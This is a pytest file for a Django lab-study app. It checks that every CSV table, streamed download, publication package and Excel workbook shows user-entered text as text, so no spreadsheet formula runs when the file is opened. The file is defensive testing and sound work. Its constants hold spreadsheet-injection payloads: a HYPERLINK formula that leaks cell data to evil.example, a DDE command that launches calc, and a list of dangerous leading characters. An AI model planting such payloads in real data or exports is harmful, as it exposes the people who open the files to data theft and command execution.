"""No export runs a formula (issue 18): every free-text field a person can fill that
reaches an export carries a hostile string, and every CSV (each table, the streamed
download, the publication package, the export_study command) and the Excel workbook
must show it as text: a leading ' before =, +, -, @, tab or carriage return (OWASP
CSV-injection guidance), no formula cell in the workbook, and numbers still numbers
(a negative %MPE stays the number it is).

The world: a blank study whose title, group names, a group code, a phase name, animal
codes, cages, testers' usernames, a stimulus note, a session note, missed-dose and void
reasons, observation notes and an animal's status reason are all payloads.

    animal     group    cage              T0 (day 7)  T1 (day 14)
    @SUM(A1)   control  =HYPERLINK(...)   26 g        15 g  -> %MPE (15-26)/(300-26) = -4.01
    A2         control  +1+cmd|...        15 g        15 g  (excluded, reason a payload)
    -2+3       -2+3     \\t=1+1            26 g        100 g
    B2         -2+3     \\r=1+1            15 g        60 g
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.db import connection
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from analysis import exports
from animals import services as animal_services
from animals.models import BodyWeight, Observation
from labstudy import services
from labstudy.models import Membership, Phase, Role, Timepoint, TreatmentGroup
from sessions import services as session_services
from tests.worlds import series_to

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&B2,"click")'
CMD = "+1+cmd|' /C calc'!A0"
SUM = "@SUM(A1)"
MINUS = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"
PAYLOADS = (HYPERLINK, CMD, MINUS, SUM, TAB, CR)
SHORT_LINK = '=HYPERLINK("http://e.x","c")'  # a cage holds 30 characters
# What a spreadsheet runs: a cell starting with one of these (OWASP).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

CAGES = {SUM: SHORT_LINK, "A2": CMD, MINUS: TAB, "B2": CR}
TRUE_G = {SUM: ("control", (26, 15)), "A2": ("control", (15, 15)),
          MINUS: (MINUS, (26, 100)), "B2": (MINUS, (15, 60))}  # fmt: skip


def guarded(text: str) -> str:
    return "'" + text


def hostile_study(people, make_user):
    today = timezone.localdate()
    day0 = today - dt.timedelta(days=40)
    manager = people["data_manager"]
    study = services.create_study(
        template_key="blank",
        slug="hostile",
        title=HYPERLINK,
        day0_date=day0,
        user=manager,
        strain="Wistar",
        first_day=0,
        last_day=28,
    )
    Membership.objects.create(user=people["investigator"], study=study, role=Role.INVESTIGATOR)
    testers = {code: make_user(name) for code, name in ((SUM, HYPERLINK), ("A2", SUM))}
    testers[MINUS] = testers["B2"] = make_user(MINUS)
    for tester in set(testers.values()):
        Membership.objects.create(user=tester, study=study, role=Role.TECHNICIAN)
    groups = {
        "control": TreatmentGroup.objects.create(
            study=study, code="control", name=CMD, is_control=True, order=1, coded_letter="A"
        ),
        MINUS: TreatmentGroup.objects.create(
            study=study, code=MINUS, name=HYPERLINK, drug="ketamine", dose_mg_kg=10, order=2,
            coded_letter="B",
        ),
    }  # fmt: skip
    Phase.objects.create(study=study, code="A", name=SUM, first_day=7, last_day=20)
    tps = [
        Timepoint.objects.create(study=study, label="T0", day=7, is_baseline=True, order=1),
        Timepoint.objects.create(study=study, label="T1", day=14, order=2),
        Timepoint.objects.create(study=study, label="T2", day=21, order=3),
    ]
    animals = {}
    for code, (group, values) in TRUE_G.items():
        animal = study.animals.create(code=code, cage=CAGES[code], group=groups[group], sex="male")
        animals[code] = animal
        for tp, true_g in zip(tps, values, strict=False):
            session = session_services.start_session(
                animal=animal, timepoint=tp, paw="right", user=testers[code]
            )
            for i, (size, withdrew) in enumerate(series_to(true_g)):
                session_services.record_stimulus(
                    session=session,
                    filament_size=size,
                    withdrew=withdrew,
                    user=testers[code],
                    note=CMD if i == 0 else "",
                )
            session.notes = HYPERLINK
            session.save()
    tess = people["technician"]
    # a session voided with a reason (it leaves the derived tables, not the audit log)
    voided = session_services.start_session(
        animal=animals["B2"], timepoint=tps[2], paw="right", user=tess
    )
    session_services.record_stimulus(session=voided, filament_size="4.31", withdrew=True, user=tess)
    session_services.void_session(session=voided, user=manager, reason=HYPERLINK)
    b1 = animals[MINUS]
    # doses: missed and refused with reasons, one voided with a reason
    animal_services.record_dose(
        animal=b1, date=study.date_of_day(7), status="missed", reason=HYPERLINK, user=tess
    )
    animal_services.record_dose(
        animal=animals["B2"], date=study.date_of_day(7), status="refused", reason=TAB, user=tess
    )
    dose = animal_services.record_dose(
        animal=animals["B2"], date=study.date_of_day(8), status="missed", reason="late", user=tess
    )
    animal_services.void_dose(dose=dose, user=manager, reason=SUM)
    # weights: one kept, one voided with a reason
    BodyWeight.objects.create(animal=b1, date=study.date_of_day(0), grams=Decimal("251.5"))
    wrong = BodyWeight.objects.create(animal=b1, date=study.date_of_day(1), grams=Decimal("25.1"))
    animal_services.void_weight(weight=wrong, user=manager, reason=CR)
    # observations: free-text notes, one voided with a reason
    for notes in (HYPERLINK, CMD, MINUS, SUM, TAB, CR):
        animal_services.record_observations(
            animal=animals["A2"], date=study.date_of_day(10), terms=[], notes=notes,
            severity="", user=tess,
        )  # fmt: skip
    # the service trims the notes; the export must guard what a form or the admin keeps
    for notes in (TAB, CR):
        study_obs = Observation.objects.filter(animal=animals["A2"], notes=notes.strip()).first()
        study_obs.notes = notes
        study_obs.save()
    (hematuria,) = animal_services.record_observations(
        animal=b1, date=study.date_of_day(12), terms=["hematuria"], notes="", severity="mild",
        user=tess,
    )  # fmt: skip
    animal_services.void_observation(observation=hematuria, user=manager, reason=MINUS)
    animal_services.change_animal_status(
        animal=animals["A2"], status="excluded", date=study.date_of_day(15), reason=CMD,
        user=manager,
    )  # fmt: skip
    return study


@pytest.fixture
def hostile(people, make_user):
    return hostile_study(people, make_user)


# ----------------------------------------------------------------------------- checks


def export_text(study, what: str) -> str:
    out = io.StringIO()
    exports.StudyExport(study).write_csv(what, out)
    return out.getvalue()


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_live_formula(text: str, where: str) -> list[list[str]]:
    """Every cell that starts with a dangerous character is a number; returns the rows."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for line, row in enumerate(rows, start=1):
        for cell in row:
            if cell[:1] in DANGEROUS:
                assert is_number(cell), f"{where} line {line}: live formula {cell!r}"
    return rows


def dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row]


def assert_tables_are_guarded(texts: dict[str, str]) -> None:
    """The payloads arrive, guarded, in the columns that carry them."""
    tables = {what: assert_no_live_formula(text, what) for what, text in texts.items()}
    stimuli = dicts(tables["stimuli"])
    assert {r["cage"] for r in stimuli} == {guarded(c) for c in CAGES.values()}
    assert {r["tester"] for r in stimuli} == {guarded(HYPERLINK), guarded(SUM), guarded(MINUS)}
    assert {r["animal"] for r in stimuli} == {guarded(SUM), "A2", guarded(MINUS), "B2"}
    assert {r["group"] for r in stimuli} == {"control", guarded(MINUS)}

    thresholds = {(r["animal"], r["timepoint"]): r for r in dicts(tables["thresholds"])}
    a1 = thresholds[(guarded(SUM), "T1")]
    # (15 - 26) / (300 - 26) x 100: a negative number stays a number, not guarded text
    assert float(a1["pct_mpe"]) == pytest.approx(-1100 / 274) and a1["pct_mpe"].startswith("-")
    assert thresholds[(guarded(MINUS), "T1")]["threshold_g"] == "100"

    assert {r["group"] for r in dicts(tables["summary"])} == {"control", guarded(MINUS)}
    assert guarded(MINUS) in {r["group"] for r in dicts(tables["auc"])}
    stats = dicts(tables["stats"])
    assert guarded(MINUS) in {r["group"] for r in stats} | {r["a"] for r in stats}
    prism = tables["prism"]
    # One grouped table per measure: a row of group titles (first cell empty) above the
    # data, and the animals of each subcolumn named in a sentence below it.
    group_titles = [row for row in prism if len(row) > 1 and row[0] == ""]
    assert len(group_titles) == 2 and all(guarded(MINUS) in row for row in group_titles)
    assert any(SUM in row[0] for row in prism if row and row[0].startswith("Rows:"))

    doses = {r["reason"]: r for r in dicts(tables["doses"])}
    assert set(doses) == {guarded(HYPERLINK), guarded(TAB.strip()), guarded(SUM)}
    assert doses[guarded(SUM)]["status"] == "voided"
    assert doses[guarded(HYPERLINK)]["group"] == guarded(MINUS)
    assert doses[guarded(HYPERLINK)]["planned_dose_mg_kg"] == "10"

    notes = [r["notes"] for r in dicts(tables["observations"])]
    assert sorted(notes) == sorted(guarded(p) for p in PAYLOADS)  # the voided one left
    weights = dicts(tables["weights"])
    assert [(w["animal"], w["grams"]) for w in weights] == [(guarded(MINUS), "251.5")]

    audit = dicts(tables["audit_log"])
    reasons = {r["reason"] for r in audit}
    # void reasons (session, dose, weight, observation) and the status change's reason
    for reason in (HYPERLINK, SUM, CR.strip(), MINUS):
        assert guarded(reason) in reasons, reason
    assert f"active → excluded: {CMD}" in reasons
    users = {r["user"] for r in audit}
    assert guarded(HYPERLINK) in users and guarded(MINUS) in users
    records = " ".join(r["record"] for r in audit)
    assert f"title={HYPERLINK}" in records and f"name={SUM}" in records
    assert f"note={CMD}" in records and f"notes={HYPERLINK}" in records
    assert f"status_reason={CMD}" in records

    described = {(r["table"], r["column"]): r["meaning"] for r in dicts(tables["dictionary"])}
    assert "leading '" in described[("(every table)", "(text cells)")]


def assert_workbook_is_text(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert cell.value[:1] not in DANGEROUS, (sheet.title, cell.value)

    def table(name):
        rows = list(book[name].iter_rows())
        header = [c.value for c in rows[0]]
        return [dict(zip(header, row, strict=False)) for row in rows[1:]]

    stimuli = table("stimuli")
    cages = {r["cage"].value for r in stimuli}
    # XML keeps a bare carriage return as a line feed; the guard is there either way
    assert {c.replace("\n", "\r") for c in cages} == {guarded(c) for c in CAGES.values()}
    thresholds = table("thresholds")
    for r in thresholds:
        assert r["threshold_g"].data_type == "n"
        assert isinstance(r["threshold_g"].value, (int, float))
    (a1,) = [
        r for r in thresholds if (r["animal"].value, r["timepoint"].value) == (guarded(SUM), "T1")
    ]
    assert a1["pct_mpe"].data_type == "n"
    assert a1["pct_mpe"].value == pytest.approx(-1100 / 274)
    reasons = {r["reason"].value for r in table("doses")}
    assert guarded(HYPERLINK) in reasons
    notes = {r["notes"].value for r in table("observations")}
    assert guarded(HYPERLINK) in notes and guarded(MINUS) in notes
    book.close()


# ----------------------------------------------------------------------------- tests


def test_every_csv_table_shows_hostile_text_as_text(hostile):
    texts = {what: export_text(hostile, what) for what in exports.TABLE_KEYS}
    assert_tables_are_guarded(texts)


def test_the_workbook_has_no_formula_and_numbers_stay_numbers(hostile):
    book = io.BytesIO()
    exports.StudyExport(hostile).write_workbook(book)
    assert_workbook_is_text(book.getvalue())


def test_publication_package_every_csv_and_the_workbook(hostile):
    target = io.BytesIO()
    exports.StudyExport(hostile).write_package(target)
    target.seek(0)
    texts = {}
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            data = archive.read(name)
            if name.endswith(".csv"):
                key = next(k for k in exports.TABLE_KEYS if f"_{k}_" in name)
                texts[key] = data.decode("utf-8")
            elif name.endswith(".xlsx"):
                assert_workbook_is_text(data)
            elif name.endswith("README.txt"):
                readme = " ".join(data.decode().split())
                assert "carriage return) begins with ' so that it shows as text" in readme
    assert set(texts) == set(exports.TABLE_KEYS)
    assert_tables_are_guarded(texts)


def test_streamed_downloads_are_guarded(hostile, client_for):
    client = client_for("investigator")
    texts = {}
    for what in exports.TABLE_KEYS:
        response = client.get(reverse("export_table", args=[hostile.slug, what]))
        assert response.status_code == 200
        texts[what] = b"".join(response.streaming_content).decode("utf-8")
    assert_tables_are_guarded(texts)
    response = client.get(reverse("export_workbook", args=[hostile.slug]))
    assert_workbook_is_text(b"".join(response.streaming_content))


def test_export_study_command_writes_guarded_files(hostile, tmp_path):
    texts = {}
    for what in exports.TABLE_KEYS:
        call_command("export_study", hostile.slug, "--what", what, "--out", str(tmp_path))
        path = tmp_path / exports.file_name(hostile, what)
        with open(path, encoding="utf-8", newline="") as out:  # keep a quoted \r as it is
            texts[what] = out.read()
    assert_tables_are_guarded(texts)
    call_command("export_study", hostile.slug, "--what", "xlsx", "--out", str(tmp_path))
    (book,) = tmp_path.glob("*.xlsx")
    assert_workbook_is_text(book.read_bytes())


def test_postgresql_copy_guards_as_the_row_by_row_path(hostile):
    if connection.vendor != "postgresql":
        pytest.skip("COPY is PostgreSQL's; runs with DATABASE_URL=postgres://...")
    export = exports.StudyExport(hostile)
    copied = "".join(export.csv_chunks("stimuli"))
    row_by_row = "".join(exports.csv_chunks(export.header("stimuli"), export.rows("stimuli")))
    assert copied == row_by_row
    assert_no_live_formula(copied, "stimuli (COPY)")
    assert f'"{guarded(CR)}"' in copied and guarded(TAB) in copied


def test_the_guard_is_one_rule_for_text_and_leaves_numbers_alone():
    for payload in PAYLOADS:
        assert exports.csv_cell(payload) == guarded(payload)
        assert exports.excel_cell(payload) == guarded(payload)
    assert exports.csv_cell("'=1") == "''=1"  # so the import's strip gives '=1 back
    assert exports.csv_cell("A1 = left") == "A1 = left"
    assert exports.csv_cell(-4.9) == "-4.9" and exports.excel_cell(-4.9) == -4.9
    assert exports.csv_cell(Decimal("-1.5")) == "-1.5" and exports.csv_cell(-3) == "-3"
    assert exports.csv_cell("") == "" and exports.csv_cell("'") == "'"
    # a control character a worksheet cannot hold no longer stops the workbook (it raised)
    assert exports.csv_cell("a\x01b") == "a\x01b" and exports.excel_cell("a\x01b") == "a\ufffdb"


@given(st.text())
def test_guard_then_unguard_gives_the_text_back_and_guarded_text_is_never_run(text):
    from analysis.safe_cells import guard, unguard

    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in DANGEROUS
    assert guard(text) in (text, "'" + text)
